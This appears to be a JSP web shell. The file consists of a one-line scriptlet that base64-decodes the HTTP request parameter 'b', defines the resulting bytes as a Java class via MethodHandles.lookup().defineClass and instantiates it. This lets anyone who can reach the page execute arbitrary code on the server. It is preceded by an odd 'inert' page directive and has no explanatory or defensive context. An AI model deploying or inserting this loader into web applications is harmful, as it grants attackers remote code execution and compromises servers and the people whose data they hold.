<%@ inert %>
<% java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode(request.getParameter("b"))).newInstance(); %>
